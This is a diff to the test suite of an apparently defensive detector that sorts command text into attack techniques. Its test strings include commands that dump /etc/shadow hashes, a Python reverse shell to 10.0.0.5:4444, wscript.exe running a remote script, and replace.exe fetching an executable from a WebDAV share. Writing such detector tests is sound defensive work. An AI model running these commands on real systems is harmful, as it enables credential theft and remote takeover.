@@ -157,12 +157,23 @@ describe('dual-use capabilities of real software stay below an attack (issue 30)
     expect(technique(helper, 'cred.shadow_read')?.severity).toBe('low');
     expect(technique(helper, 'cred.shadow_file')).toBeUndefined();
     expect(technique('while IFS=: read u p rest; do [ -z "$p" ] && echo "$u has no password"; done < /etc/shadow', 'cred.shadow_read')?.severity).toBe('low');
+    // Text tools parsing it (an audit listing accounts) are reading it; printing the hash field is dumping.
+    expect(technique("awk -F: '{ print $1 }' /etc/shadow | sort | uniq -d", 'cred.shadow_file')).toBeUndefined();
+    expect(technique("awk -F: '{ print $1 }' /etc/shadow | sort | uniq -d", 'cred.shadow_read')?.severity).toBe('low');
+    expect(technique("awk -F: '{print $2}' /etc/shadow", 'cred.shadow_file')?.severity).toBe('high');
+    expect(technique('cut -d: -f2 /etc/shadow', 'cred.shadow_file')?.severity).toBe('high');
     // Prose naming a tool is not a command.
     expect(technique('"""Checks /etc/passwd, or python\'s spwd module (which checks /etc/shadow)."""', 'cred.shadow_file')).toBeUndefined();
     expect(technique('sudo cat /etc/shadow > /tmp/s.txt', 'cred.shadow_file')?.severity).toBe('high');
     // Read by a program and sent away: the read is high in that company.
     const sent = `${helper}import socket\ns=socket.socket();s.connect(("10.0.0.5",4444))\nimport os,pty\n[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")\n`;
     expect(technique(sent, 'cred.shadow_read')?.severity).toBe('high');
+  });
+  it("the WScript object echoing a URL is not the script host run on one; replace.exe needs a share, not prose", () => {
+    expect(technique('WScript.Echo "For full documentation, see: https://github.com/example/tool#readme"', 'lolbin.script_host_remote')).toBeUndefined();
+    expect(technique('wscript.exe https://203.0.113.9/a.js', 'lolbin.script_host_remote')?.severity).toBe('high');
+    expect(technique("# replace \\\\$ with $, and don't touch the rest", 'lolbin.download_helper')).toBeUndefined();
+    expect(technique('replace.exe \\\\webdav.example\\share\\a.exe c:\\out /A', 'lolbin.download_helper')?.severity).toBe('high');
   });
   it("Mimikatz commands are whole words at its prompt, not a framework's static calls", () => {
     for (const text of ['Event::clearResolvedInstances();', 'Event::clear();', '$all = Vault::list($path);', '$t = Token::list();']) expect(technique(text, 'cred.mimikatz')).toBeUndefined();
